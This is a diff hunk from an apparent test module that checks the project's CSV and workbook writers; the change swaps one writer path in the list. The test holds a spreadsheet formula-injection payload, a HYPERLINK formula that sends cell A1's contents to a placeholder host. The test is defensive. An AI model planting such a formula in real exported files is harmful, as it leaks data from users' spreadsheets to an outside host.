@@ -24,7 +24,7 @@ from tests.test_casebook.conftest import SignedIn
 ROOT = Path(__file__).resolve().parents[2]
 FORMULA = '=HYPERLINK("http://x/?"&A1,"Click")'
 #: Every module that writes CSV or a workbook; each is read back below.
-WRITERS = {"casebook/web/pages/eventlog.py", "casebook/web/pages/drilldown.py",
+WRITERS = {"casebook/services/export_rows.py", "casebook/web/pages/drilldown.py",
            "projections/presentation/render.py", "projections/presentation/workbook.py"}
 _WRITING = re.compile(r"csv\.(writer|DictWriter)\(|^\s*(from|import) openpyxl", re.MULTILINE)
 
